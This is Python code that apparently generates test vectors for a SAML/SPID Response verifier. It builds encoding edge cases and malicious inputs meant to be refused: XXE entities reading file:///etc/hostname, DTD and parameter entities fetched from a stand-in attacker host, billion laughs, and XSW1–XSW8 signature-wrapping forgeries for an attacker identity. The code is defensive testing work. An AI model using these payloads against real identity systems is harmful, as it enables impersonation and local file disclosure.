    g.valid("the second IdP's Response with two trusted EntityDescriptor files", "responses/valid-idp2.xml", identity_of(p2), ["Tolerance"])
    g.valid("the first IdP's Response with the same two files", "responses/valid.xml", ident, ["Tolerance"])
    g = vf.group(f"SAML metadata 2.0 2.4.1.1 (KeyDescriptor without use = both uses); {SRC_SPEC}", trust=["metadata/idp-rollover.xml"])
    g.valid(
        "metadata during a key rollover: the current key sits in a KeyDescriptor without use, which counts as a signing key",
        "responses/valid.xml",
        ident,
        ["Tolerance"],
    )
    pr = B.but(key="rsa4096", cert="spid-idp2")
    f = out.doc(
        "valid-rollover-next-key",
        "the reference Response signed with the IdP's next key (rsa4096, certificate spid-idp2 of idp-rollover.xml)",
        pr,
    )
    g.valid(
        'the same IdP already signing with its next key (KeyDescriptor use="signing" of the rollover metadata)', f, ident, ["Tolerance"]
    )


MALLORY = dict(
    GIULIA,
    fiscalNumber=MALLORY_CF,
    name="Mallory",
    familyName="Evil",
    dateOfBirth="1980-01-01",
    spidCode="IDBR6666666666",
    email="mallory@evil.example",
)


def evil_assertion(out, label, p=None, **kw):
    """An unsigned Assertion for the attacker's identity, as an lxml element."""
    p = (p or out.base()).but(person=MALLORY, resp_sig=None, assert_sig=None, **kw)
    return lx_assertion(parse(build(tree_of(p, label + "/evil"))))


def lx_replace(old, new):
    new.tail = old.tail
    old.addprevious(new)
    old.getparent().remove(old)


def lx_sig(el):
    return el.find(q(DS, "Signature"))


def nth_span(s, start_tag, end_tag, n):
    """(start, end) of the n-th (0-based) occurrence of start_tag ... end_tag."""
    pos = -1
    for _ in range(n + 1):
        pos = s.index(start_tag, pos + 1)
    return pos, s.index(end_tag, pos) + len(end_tag)


def flip_sigvalue(n):
    """Flip the last bit of the n-th SignatureValue."""

    def f(s):
        a, b = nth_span(s, "<ds:SignatureValue>", "</ds:SignatureValue>", n)
        inner = s[a + len("<ds:SignatureValue>") : b - len("</ds:SignatureValue>")]
        raw = bytearray(base64.b64decode("".join(inner.split())))
        raw[-1] ^= 1
        return s[:a] + "<ds:SignatureValue>" + b64(bytes(raw)) + "</ds:SignatureValue>" + s[b:]

    return f


def input_cases(out):
    B = out.base()
    ident = identity_of(B)
    vf = out.vfile(
        "input.json",
        "input encoding (S1) and XML parsing (S2)",
        [
            "SPID Responses as the HTTP-POST binding delivers them (base64 in the SAMLResponse field) and XML-level refusals: bad base64, non-UTF-8 bytes, DOCTYPE and entities, malformed XML.",
            f"Generated by {GEN}; the decoded documents are the reference Response of valid.json or variants whose signatures are valid, so that only the encoding or the parser rule can refuse them.",
        ],
    )
    good = out.files["responses/valid.xml"][0]
    g = vf.group(
        f"SAML bindings 2.0 (saml-bindings-2.0-os) 3.5.4 (HTTP-POST: base64, RFC 4648); {RT_RESP} (Binding HTTP-POST, trasmissione.rst); {SRC_SPEC} S1",
        input_encoding="base64",
    )
    f = out.raw("base64-valid", "base64 (RFC 4648, one line, padded) of responses/valid.xml", b64(good), "b64")
    g.valid("the reference Response as the browser posts it: base64 on one line", f, ident, ["InputEncoding"])
    f = out.raw(
        "base64-lines-76-lf",
        "base64 of responses/valid.xml broken every 76 characters by LF",
        "\n".join(chunks(b64(good), 76)) + "\n",
        "b64",
    )
    g.valid("base64 with a line feed every 76 characters (MIME style): line breaks are dropped", f, ident, ["InputEncoding"])
    f = out.raw(
        "base64-lines-76-crlf",
        "base64 of responses/valid.xml broken every 76 characters by CR LF",
        "\r\n".join(chunks(b64(good), 76)) + "\r\n",
        "b64",
    )
    g.valid("base64 with CR LF every 76 characters: dropped too", f, ident, ["InputEncoding"])
    f = out.raw(
        "base64-spaces",
        "base64 of responses/valid.xml with a space every 64 characters and a tab at the start",
        "\t" + " ".join(chunks(b64(good), 64)),
        "b64",
    )
    g.valid("base64 with spaces and a tab inside: dropped", f, ident, ["InputEncoding"])
    bad = b64(good)
    f = out.raw(
        "base64-bad-char", "base64 of responses/valid.xml with the character at offset 40 replaced by '*'", bad[:40] + "*" + bad[41:], "b64"
    )
    g.invalid("a character outside the base64 alphabet ('*' at offset 40)", f, "input.encoding", ["InputEncoding"])
    padded = good + b"\n" * ((3 - len(good) % 3) % 3 + 1)  # trailing whitespace after the root: padding needed
    if len(padded) % 3 == 0:
        padded += b"\n"
    pb = b64(padded)
    assert pb.endswith("="), pb[-4:]
    f = out.raw(
        "base64-no-padding", "base64 of responses/valid.xml plus trailing line feeds, with the '=' padding removed", pb.rstrip("="), "b64"
    )
    g.invalid(
        "the '=' padding removed: standard base64 requires it (a lenient decoder would read a valid Response)",
        f,
        "input.encoding",
        ["InputEncoding"],
    )
    last = pb.rstrip("=")[-1]
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    bump = alphabet[alphabet.index(last) + 1]
    nb = pb.rstrip("=")[:-1] + bump + "=" * (len(pb) - len(pb.rstrip("=")))
    assert base64.b64decode(nb) == padded and nb != pb
    f = out.raw(
        "base64-noncanonical-bits",
        "base64 of responses/valid.xml plus trailing line feeds whose last character has non-zero unused bits",
        nb,
        "b64",
    )
    g.invalid(
        "the last base64 character carries non-zero padding bits (decodes to the same bytes, but is not canonical base64)",
        f,
        "input.encoding",
        ["InputEncoding"],
    )
    assert "+" in bad or "/" in bad
    f = out.raw("base64-urlsafe", "base64url ('-' and '_') of responses/valid.xml", bad.replace("+", "-").replace("/", "_"), "b64")
    g.invalid("the URL-safe alphabet ('-', '_'): not the standard alphabet the binding uses", f, "input.encoding", ["InputEncoding"])
    half = len(good) // 3 * 3 - 300
    while len(good[:half]) % 3 == 0:
        half -= 1
    f = out.raw(
        "base64-padding-inside",
        "responses/valid.xml encoded as two base64 strings concatenated (padding '=' in the middle)",
        b64(good[:half]) + b64(good[half:]),
        "b64",
    )
    g.invalid("two base64 strings concatenated: '=' padding in the middle of the data", f, "input.encoding", ["InputEncoding"])
    niccolo = dict(GIULIA, name="Niccolò", fiscalNumber="TINIT-" + codice_fiscale("DNGNCL90E12F839"))
    latin = build(tree_of(B.but(person=niccolo), "base64-latin1")).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    out.raw(
        "latin1",
        "a Response for 'Niccolò' written in ISO-8859-1 (declared in the XML declaration; signatures valid for the decoded characters)",
        latin,
    )
    f = out.raw("base64-latin1", "base64 of responses/latin1.xml", b64(latin), "b64")
    g.invalid(
        "the decoded bytes are ISO-8859-1 ('ò' is the byte F2), declared so in the XML declaration and validly signed: the Response must be UTF-8",
        f,
        "input.encoding",
        ["InputEncoding"],
    )
    f = out.raw("base64-bom", "base64 of a UTF-8 byte order mark followed by responses/valid.xml", b64(b"\xef\xbb\xbf" + good), "b64")
    g.acceptable("a UTF-8 byte order mark before the document: may be skipped (one leading BOM), or refused", f, ident, ["InputEncoding"])
    f = out.raw("base64-twice", "base64 of base64 of responses/valid.xml (encoded twice)", b64(b64(good).encode()), "b64")
    g.invalid("encoded twice: the decoded bytes are base64 text, not XML", f, "xml.malformed", ["InputEncoding", "MalformedXml"])
    g.invalid(
        "the XML itself posted where base64 is expected ('<' is not in the alphabet)",
        "responses/valid.xml",
        "input.encoding",
        ["InputEncoding"],
    )

    g = vf.group(f"{SRC_SPEC} S2 (DOCTYPE refused, no entity expansion); XML 1.0 section 2.8 (document type declaration), 4 (entities)")
    dtd = lambda decl: lambda s: one(s, DECL, DECL + decl + "\n")
    f = out.doc(
        "doctype",
        "the reference Response with a bare <!DOCTYPE samlp:Response> after the XML declaration (signatures valid)",
        post=dtd("<!DOCTYPE samlp:Response>"),
    )
    g.invalid(
        "a bare DOCTYPE declaration, nothing declared: refused before anything else is read", f, "xml.dtd.forbidden", ["DtdForbidden"]
    )
    cf = GIULIA["fiscalNumber"]
    f = out.doc(
        "doctype-internal-entity",
        "fiscalNumber written as the internal entity &cf; declared in the DOCTYPE; the signatures are valid for the expanded document",
        post=chain(dtd(f'<!DOCTYPE samlp:Response [\n  <!ENTITY cf "{cf}">\n]>'), rep(f">{cf}<", ">&cf;<")),
    )
    g.invalid(
        "the fiscalNumber value is an internal entity reference: an entity-expanding parser verifies both signatures and reads the value; entities are refused with the DOCTYPE",
        f,
        "xml.dtd.forbidden",
        ["DtdForbidden"],
    )
    ext = lambda R: R.insert_before("Status", El("samlp:Extensions", children=[El("idbr:Note", [("xmlns:idbr", IDBR)], text="@ENTITY@")]))
    f = out.doc(
        "doctype-external-entity",
        "an external entity (SYSTEM file:///etc/hostname) referenced inside Extensions of an unsigned Response (the Assertion signature is valid)",
        B.but(resp_sig=None),
        edit=ext,
        post=chain(dtd('<!DOCTYPE samlp:Response [\n  <!ENTITY xxe SYSTEM "file:///etc/hostname">\n]>'), rep("@ENTITY@", "&xxe;")),
    )
    g.invalid(
        "an external entity (XXE) referenced in the unsigned Extensions: a resolving parser reads a local file",
        f,
        "xml.dtd.forbidden",
        ["DtdForbidden"],
    )
    lol = "\n".join(
        ['  <!ENTITY lol0 "lollollollollollollollollollol">'] + [f'  <!ENTITY lol{i} "' + f"&lol{i-1};" * 10 + '">' for i in range(1, 10)]
    )
    f = out.doc(
        "doctype-billion-laughs",
        "nested internal entities (10^9 expansions of 'lol') referenced inside Extensions of an unsigned Response",
        B.but(resp_sig=None),
        edit=lambda R: R.insert_before(
            "Status", El("samlp:Extensions", children=[El("idbr:Note", [("xmlns:idbr", IDBR)], text="@ENTITY@")])
        ),
        post=chain(dtd("<!DOCTYPE samlp:Response [\n" + lol + "\n]>"), rep("@ENTITY@", "&lol9;")),
    )
    g.invalid(
        "billion laughs: nine levels of nested entities, gigabytes once expanded; refused at the DOCTYPE",
        f,
        "xml.dtd.forbidden",
        ["DtdForbidden", "EntityExpansion"],
    )
    f = out.doc(
        "doctype-external-subset",
        "a DOCTYPE naming an external DTD subset on the network (signatures valid)",
        post=dtd('<!DOCTYPE samlp:Response SYSTEM "https://attacker.idbridge.test/saml.dtd">'),
    )
    g.invalid("an external DTD subset on the network: never fetched, refused", f, "xml.dtd.forbidden", ["DtdForbidden"])
    f = out.doc(
        "doctype-parameter-entity",
        "a DOCTYPE with an external parameter entity (%remote;) (signatures valid)",
        post=dtd('<!DOCTYPE samlp:Response [\n  <!ENTITY % remote SYSTEM "https://attacker.idbridge.test/x.dtd">\n  %remote;\n]>'),
    )
    g.invalid(
        "an external parameter entity expanded inside the internal subset (out-of-band XXE): refused",
        f,
        "xml.dtd.forbidden",
        ["DtdForbidden"],
    )
    f = out.raw("truncated", "the first half of responses/valid.xml", good[: len(good) // 2])
    g.invalid("the document cut in half", f, "xml.malformed", ["MalformedXml"])
    f = out.doc(
        "undeclared-prefix",
        "the reference Response with Status written as samlx:Status, a prefix never declared",
        post=chain(rep("<samlp:Status>", "<samlx:Status>"), rep("</samlp:Status>", "</samlx:Status>")),
    )
    g.invalid("an element with an undeclared prefix: not namespace-well-formed", f, "xml.malformed", ["MalformedXml"])
    f = out.raw("two-roots", "responses/valid.xml followed by the same Response again (two root elements)", good + good[len(DECL) :])
    g.invalid("two root elements (the signed Response twice)", f, "xml.malformed", ["MalformedXml"])
    f = out.raw("empty", "an empty file", b"")
    g.invalid("no bytes at all", f, "xml.malformed", ["MalformedXml"])
    g = vf.group(f"{SRC_SPEC} S1 then S2", input_encoding="base64")
    f = out.raw(
        "base64-doctype",
        "base64 of responses/doctype-internal-entity.xml",
        b64(out.files["responses/doctype-internal-entity.xml"][0]),
        "b64",
    )
    g.invalid(
        "the internal-entity document posted as base64: decoding succeeds, the DOCTYPE is refused", f, "xml.dtd.forbidden", ["DtdForbidden"]
    )


def encrypted_assertion(label):
    cipher = b64(hashlib.sha512(label.encode()).digest() * 6)
    return El(
        "saml:EncryptedAssertion",
        children=[
            El(
                "xenc:EncryptedData",
                [("xmlns:xenc", XENC), ("Type", XENC + "Element")],
                [
                    El("xenc:EncryptionMethod", [("Algorithm", "http://www.w3.org/2009/xmlenc11#aes256-gcm")]),
                    El("xenc:CipherData", children=[El("xenc:CipherValue", text=cipher)]),
                ],
            )
        ],
    )


def envelope_cases(out):
    B = out.base()
    A1 = B.but(resp_sig=None)  # the genuine Response for Assertion-level wrapping: only the Assertion is signed
    vf = out.vfile(
        "envelope.json",
        "the Response envelope (S3) and signature wrapping (XSW)",
        [
            "The Response content model and the XML Signature Wrapping family: a genuine signed Assertion or Response moved elsewhere, an evil unsigned one in its place.",
            f"Generated by {GEN}. The genuine parts are the reference Response of valid.json (signed by the IdP); the evil Assertion names the attacker ({MALLORY_CF}, Mallory Evil) and is unsigned. Surgery after signing is done with lxml and re-serialized: the genuine signed elements keep their exc-c14n form, so their signatures remain valid wherever they are.",
        ],
    )
    g = vf.group(f"SAML core 2.0 3.2.2 (StatusResponseType), 3.3.3 (Response), 2.3.3 (Assertion); {RT_RESP}; {SRC_SPEC} S3")
    f = out.doc("root-assertion", "the signed Assertion alone, as the document element", A1, post=lx(lambda r: lx_assertion(r)))
    g.invalid(
        "the genuine signed Assertion posted alone, without its Response: the root must be samlp:Response",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "root-wrapper",
        "the genuine signed Response inside an idbr:Envelope root element",
        post=lx(lambda r: (lambda w: (w.append(r), w)[1])(etree.Element(q(IDBR, "Envelope"), nsmap={"idbr": IDBR}))),
    )
    g.invalid(
        "the genuine signed Response wrapped in a foreign root element: the root must be the Response",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope", "SignatureWrapping"],
    )
    f = out.doc(
        "root-logoutresponse",
        "a samlp:LogoutResponse root (same content, signed)",
        edit=lambda R: setattr(R, "name", "samlp:LogoutResponse"),
    )
    g.invalid(
        "a samlp:LogoutResponse, signed by the IdP, with a valid Assertion inside: not a Response",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "root-saml-namespace",
        "the root element named Response but in the assertion namespace (saml:Response), signed",
        edit=lambda R: setattr(R, "name", "saml:Response"),
    )
    g.invalid(
        "the root is {urn:oasis:names:tc:SAML:2.0:assertion}Response: right local name, wrong namespace",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "issuer-after-status",
        "the Response Issuer moved after Status (before signing)",
        edit=lambda R: R.insert_after("Status", R.remove("Issuer")),
    )
    g.invalid(
        "Response children out of schema order (Signature, Status, Issuer, Assertion): the content model fixes the order",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "extensions-before-issuer",
        "samlp:Extensions placed before the Response Issuer (before signing)",
        edit=lambda R: R.children.insert(0, El("samlp:Extensions", children=[El("idbr:Trace", [("xmlns:idbr", IDBR)], text="x")])),
    )
    g.invalid(
        "Extensions before Issuer: out of schema order, the content model fixes the order", f, "saml.structure.invalid", ["StrictEnvelope"]
    )
    f = out.doc(
        "text-between-children",
        "non-whitespace text ('junk') between Status and the Assertion (before signing)",
        edit=lambda R: R.insert_after("Status", Raw("junk")),
    )
    g.invalid("character data between Response children: the Response holds elements only", f, "saml.structure.invalid", ["StrictEnvelope"])
    f = out.doc(
        "unknown-child",
        "a foreign element idbr:Extra after Status (before signing)",
        edit=lambda R: R.insert_after("Status", El("idbr:Extra", [("xmlns:idbr", IDBR)], text="x")),
    )
    g.invalid(
        "an unknown element as a Response child: foreign elements are allowed only inside Extensions",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "two-status",
        "two samlp:Status elements (before signing)",
        edit=lambda R: R.insert_after("Status", El("samlp:Status", children=[El("samlp:StatusCode", [("Value", SUCCESS)])])),
    )
    g.invalid("Status twice: the content model allows one", f, "saml.structure.invalid", ["StrictEnvelope"])
    f = out.doc(
        "two-response-issuers",
        "two saml:Issuer elements at the head of the Response (before signing)",
        edit=lambda R: R.children.insert(0, El("saml:Issuer", [("Format", ENTITY)], text=esc(SPID_IDP))),
    )
    g.invalid("Issuer twice in the Response: the content model allows one", f, "saml.structure.invalid", ["StrictEnvelope"])
    f = out.doc(
        "encrypted-assertion",
        "a Response whose only Assertion is a saml:EncryptedAssertion (opaque ciphertext), Response signed",
        edit=put("Assertion", encrypted_assertion("encrypted-assertion")),
    )
    g.invalid(
        "an EncryptedAssertion: not supported by this verifier (SPID/CIE IdPs send plain signed Assertions), refused with a clear reason",
        f,
        "saml.structure.invalid",
        ["EncryptedAssertion"],
    )
    f = out.doc(
        "encrypted-and-plain-assertion",
        "a signed Response holding an EncryptedAssertion and the plain signed Assertion",
        edit=lambda R: R.insert_before("Assertion", encrypted_assertion("encrypted-and-plain")),
    )
    g.invalid(
        "an EncryptedAssertion beside a valid plain Assertion: refused (which one would the SP read?)",
        f,
        "saml.structure.invalid",
        ["EncryptedAssertion", "StrictEnvelope"],
    )

    def two_signed(R):
        other = tree_of(A1.but(person=MALLORY), "two-signed-assertions/second").find("Assertion")
        R.children.append(other)

    f = out.doc(
        "two-signed-assertions",
        "a Response (unsigned) with two Assertions, each validly signed by the IdP (the second for another person)",
        A1,
        edit=two_signed,
    )
    g.invalid(
        "two Assertions, both genuinely signed by the IdP but for two people: exactly one Assertion is allowed (CVE-2022-41912 read one and verified the other)",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope", "SignatureWrapping"],
    )

    def advice(R):
        inner = tree_of(A1, "advice-assertion/inner").find("Assertion")
        A = R.find("Assertion")
        A.insert_after("Conditions", El("saml:Advice", children=[inner]))

    f = out.doc(
        "advice-assertion", "the Assertion carries saml:Advice holding another signed Assertion (all signed by the IdP)", A1, edit=advice
    )
    g.invalid(
        "an Assertion nested in saml:Advice: every Assertion in the document must be the Response's Assertion child (Advice must not be used in SPID)",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope"],
    )
    f = out.doc(
        "nested-response-in-extensions",
        "a copy of the signed Response inside the Response's samlp:Extensions (outer Response unsigned)",
        A1,
        post=lx(
            lambda r: (lambda ext: (r.find(q(SAMLP, "Status")).addprevious(ext), ext.append(copy.deepcopy(r))))(
                etree.Element(q(SAMLP, "Extensions"))
            )
        ),
    )
    g.invalid(
        "a second samlp:Response (the genuine one, copied) inside Extensions: the document must hold exactly one Response",
        f,
        "saml.structure.invalid",
        ["StrictEnvelope", "SignatureWrapping"],
    )

    # ---------------------------------------------------------- signature wrapping
    g = vf.group(
        f"J. Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012), attacks XSW1-XSW8; SAML core 2.0 5.4.2; {SRC_SPEC} S3, S5, S9"
    )
    genuine_both = out.files["responses/valid.xml"][0]
    genuine_a = out.doc(
        "xsw-genuine", "the genuine Response used by the wrapping cases: Response unsigned, Assertion signed by the IdP", A1
    )
    g.valid(
        "the genuine Response the wrapping cases start from (Response unsigned, Assertion signed)",
        genuine_a,
        identity_of(A1),
        ["OptionalResponseSignature"],
    )
    ga = out.files[genuine_a][0]

    def wrap_case(slug, desc, fn, src=ga):
        root = parse(src)
        res = fn(root)
        root = res if isinstance(res, etree._Element) else root
        return out.raw(slug, desc, serialize(root))

    def xsw1(r):
        evil = copy.deepcopy(r)
        evil.set("ID", hid("xsw1/evil-response"))
        lx_replace(lx_assertion(evil), evil_assertion(out, "xsw1"))
        obj = etree.SubElement(lx_sig(evil), q(DS, "Object"))
        obj.append(r)
        return evil

    f = wrap_case(
        "xsw1-response-in-signature-object",
        "XSW1: an evil Response (new ID, evil unsigned Assertion) keeps the genuine Response Signature, whose ds:Object holds the genuine signed Response",
        xsw1,
        genuine_both,
    )
    g.invalid(
        "XSW1: the root is an evil Response with the attacker's Assertion; the genuine signed Response sits in a ds:Object of the copied Signature, which still references it",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw2(r):
        evil = copy.deepcopy(r)
        evil.set("ID", hid("xsw2/evil-response"))
        lx_replace(lx_assertion(evil), evil_assertion(out, "xsw2"))
        lx_sig(evil).addprevious(r)
        return evil

    f = wrap_case(
        "xsw2-response-before-signature",
        "XSW2: an evil Response with the genuine signed Response inserted as a child just before the copied Signature",
        xsw2,
        genuine_both,
    )
    g.invalid(
        "XSW2: the genuine signed Response is a child of the evil Response, placed before the Signature that references it (detached-style)",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )
    f = wrap_case(
        "xsw3-evil-assertion-first",
        "XSW3: an evil unsigned Assertion inserted before the genuine signed Assertion",
        lambda r: lx_assertion(r).addprevious(evil_assertion(out, "xsw3")),
    )
    g.invalid(
        "XSW3: an evil unsigned Assertion placed before the genuine signed one (a reader taking the first Assertion gets the attacker)",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )
    f = wrap_case(
        "xsw-evil-assertion-last",
        "the genuine signed Assertion followed by an evil unsigned Assertion",
        lambda r: lx_assertion(r).addnext(evil_assertion(out, "xsw-last")),
    )
    g.invalid(
        "the genuine signed Assertion first, an evil unsigned one after it (CVE-2022-41912: the signature of one Assertion checked, the attributes of another read)",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw4(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "xsw4")
        lx_replace(A, ev)
        ev.append(A)

    f = wrap_case(
        "xsw4-assertion-inside-evil", "XSW4: the genuine signed Assertion moved inside an evil Assertion (as its last child)", xsw4
    )
    g.invalid(
        "XSW4: the evil Assertion is the Response child; the genuine signed Assertion is nested inside it",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw5(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "xsw5")
        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
        A.addprevious(ev)

    f = wrap_case(
        "xsw5-evil-with-copied-signature",
        "XSW5: an evil Assertion carrying a copy of the genuine Signature, then the genuine signed Assertion",
        xsw5,
    )
    g.invalid(
        "XSW5: the evil Assertion carries a copy of the genuine Signature (still referencing the genuine ID); the genuine Assertion follows as a second Assertion",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw6(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "xsw6")
        sig = copy.deepcopy(lx_sig(A))
        ev.find(q(SAML, "Issuer")).addnext(sig)
        lx_replace(A, ev)
        etree.SubElement(sig, q(DS, "Object")).append(A)

    f = wrap_case(
        "xsw6-assertion-in-signature-object",
        "XSW6: an evil Assertion with a copy of the genuine Signature, whose ds:Object holds the genuine signed Assertion",
        xsw6,
    )
    g.invalid(
        "XSW6: the genuine signed Assertion hidden in a ds:Object of the Signature copied into the evil Assertion",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw7(r):
        A = lx_assertion(r)
        ext = etree.Element(q(SAMLP, "Extensions"))
        r.find(q(SAMLP, "Status")).addprevious(ext)
        lx_replace(A, evil_assertion(out, "xsw7"))
        ext.append(A)

    f = wrap_case(
        "xsw7-assertion-in-extensions",
        "XSW7: the genuine signed Assertion moved into samlp:Extensions, an evil unsigned Assertion in its place",
        xsw7,
    )
    g.invalid(
        "XSW7: the genuine signed Assertion inside Extensions (schema-valid: Extensions takes any element), the attacker's unsigned Assertion as the Response's Assertion",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def xsw8(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "xsw8")
        sig = copy.deepcopy(lx_sig(A))
        ev.find(q(SAML, "Issuer")).addnext(sig)
        lx_replace(A, ev)
        remove_keep_tail(lx_sig(A))
        etree.SubElement(sig, q(DS, "Object")).append(A)

    f = wrap_case(
        "xsw8-unsigned-copy-in-object",
        "XSW8: an evil Assertion with the genuine Signature; its ds:Object holds the genuine Assertion with its Signature removed",
        xsw8,
    )
    g.invalid(
        "XSW8: the Signature moved into the evil Assertion, the genuine Assertion (its Signature removed, so the enveloped transform still matches) in a ds:Object",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def in_status_detail(r):
        A = lx_assertion(r)
        detail = etree.SubElement(r.find(q(SAMLP, "Status")), q(SAMLP, "StatusDetail"))
        lx_replace(A, evil_assertion(out, "status-detail"))
        detail.append(A)

    f = wrap_case(
        "xsw-assertion-in-statusdetail",
        "the genuine signed Assertion moved into Status/StatusDetail, an evil unsigned Assertion in its place",
        in_status_detail,
    )
    g.invalid(
        "the genuine signed Assertion hidden in StatusDetail (which takes any element), the evil one in its place",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def in_scd(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "scd")
        lx_replace(A, ev)
        ev.find(q(SAML, "Subject")).find(q(SAML, "SubjectConfirmation")).find(q(SAML, "SubjectConfirmationData")).append(A)

    f = wrap_case(
        "xsw-assertion-in-subjectconfirmationdata",
        "the genuine signed Assertion moved inside the evil Assertion's SubjectConfirmationData",
        in_scd,
    )
    g.invalid(
        "the genuine signed Assertion inside the evil Assertion's SubjectConfirmationData (which takes any content)",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )
    f = wrap_case(
        "xsw-assertion-in-extensions-only",
        "the genuine signed Assertion moved into samlp:Extensions, no Assertion child left",
        lambda r: (lambda A, ext: (r.find(q(SAMLP, "Status")).addprevious(ext), ext.append(A)))(
            lx_assertion(r), etree.Element(q(SAMLP, "Extensions"))
        ),
    )
    g.invalid(
        "the only Assertion sits in Extensions: an Assertion outside the Response's Assertion child (a Success Response without an Assertion would fail later anyway)",
        f,
        "saml.structure.invalid",
        ["SignatureWrapping"],
    )

    def transplant(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "transplant")
        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
        lx_replace(A, ev)

    f = wrap_case(
        "xsw-signature-transplant",
        "an evil Assertion (own ID) carrying a copy of the genuine Signature; the genuine Assertion removed",
        transplant,
    )
    g.invalid(
        "the evil Assertion carries the genuine Signature, whose Reference names the genuine Assertion's ID, no longer in the document: the Reference must name the Signature's own parent",
        f,
        "xmldsig.reference.invalid",
        ["SignatureWrapping", "ReferenceConfusion"],
    )

    def same_id(r):
        A = lx_assertion(r)
        ev = evil_assertion(out, "same-id")
        ev.set("ID", A.get("ID"))
        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
        lx_replace(A, ev)

    f = wrap_case(
        "xsw-evil-with-genuine-id",
        "an evil Assertion with the genuine Assertion's ID and a copy of its Signature, the genuine Assertion removed",
        same_id,
    )
    g.invalid(
        "the evil Assertion takes the genuine ID and Signature: the Reference resolves, the digest of the attacker's content does not match",
        f,
        "xmldsig.digest.mismatch",
        ["SignatureWrapping", "TamperedAfterSigning"],
    )

    def id_collision(r):
        A = lx_assertion(r)
        ext = etree.Element(q(SAMLP, "Extensions"))
        marker = etree.SubElement(ext, q(IDBR, "Marker"), nsmap={"idbr": IDBR})
        marker.set("ID", A.get("ID"))
        r.find(q(SAMLP, "Status")).addprevious(ext)

    f = wrap_case(
        "xsw-id-collision",
        "Extensions holds an element carrying the genuine Assertion's ID (before the Assertion); the Assertion is unchanged",
        id_collision,
    )
    g.invalid(
        "another element (in Extensions, before the Assertion) carries the same ID as the signed Assertion: a getElementById-style lookup finds it first; the ID must be unique",
        f,
        "xmldsig.reference.invalid",
        ["SignatureWrapping", "ReferenceConfusion"],
    )

    f = out.doc(
        "duplicate-id-response-assertion",
        "the Response's ID equals the Assertion's ID (Response unsigned, Assertion signed)",
        A1,
        edit=lambda R: R.set("ID", R.find("Assertion").get("ID")),
    )
    g.invalid(
        "the Response and the Assertion share one ID (Response unsigned): the Assertion's Reference is ambiguous",
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion"],
    )
    f = out.doc(
        "response-signature-references-assertion",
        "the Response's Signature is a valid signature over the Assertion (Reference = #Assertion ID), placed as a Response child",
        B,
        edit=put("Signature", lambda R: Sig(uris=("#" + R.find("Assertion").get("ID"),))),
    )
    g.invalid(
        "the Signature child of the Response signs the Assertion, not the Response: a signature only counts for the element that holds it",
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion", "SignatureWrapping"],
    )
    f = out.doc(
        "assertion-signature-references-response",
        "the Assertion's Signature references the Response's ID (Response unsigned)",
        A1,
        edit=put("Assertion/Signature", lambda R: Sig(uris=("#" + R.get("ID"),))),
    )
    g.invalid(
        "the Assertion's Signature is a valid signature over the whole Response: it does not sign the Assertion that holds it",
        f,
        "xmldsig.reference.invalid",
        ["ReferenceConfusion", "SignatureWrapping"],
    )


def signature_cases(out):
    B = out.base()
    ident = identity_of(B)
    A1 = B.but(resp_sig=None)
    stranger = lambda **kw: Sig(key="rsa2048-b", keyinfo=("stranger",), **kw)
    vf = out.vfile(
        "signature.json",
        "IdP selection (S4) and the Response and Assertion signatures (S5, S9)",
        [
            "Which key may sign, what a signature must look like, and what happens when it is missing, untrusted, tampered with or made with a forbidden algorithm.",
            f"Generated by {GEN}. The stranger key is test-vectors/keys/rsa2048-b.pk8.pem with a certificate that copies the IdP's subject name (an impostor): trust is decided by the key, never by a name. Cases about the Assertion signature leave the Response unsigned, so that S9 alone decides.",
        ],
    )
    g = vf.group(
        f"{RT_RESP} (Assertion 'SI DEVE' Signature; Response 'SI PUO'' Signature); XML-DSig 1.1; SAML core 2.0 5.4; {SRC_SPEC} S4, S5, S9"
    )
    f = out.doc("unsigned", "neither the Response nor the Assertion is signed", B.but(resp_sig=None, assert_sig=None))
    g.invalid("no signature at all: the Assertion must be signed", f, "xmldsig.signature.missing", ["UnsignedAssertion"])
    f = out.doc("assertion-unsigned", "the Response signed by the IdP, the Assertion unsigned", B.but(assert_sig=None))
    g.invalid(
        "the Response is validly signed, the Assertion is not: SPID requires the Assertion signature even then",
        f,
        "xmldsig.signature.missing",
        ["UnsignedAssertion"],
    )
    f = out.doc(
        "stranger-both-keyinfo",
        "Response and Assertion signed by the stranger key, its certificate (IdP's subject name) in KeyInfo",
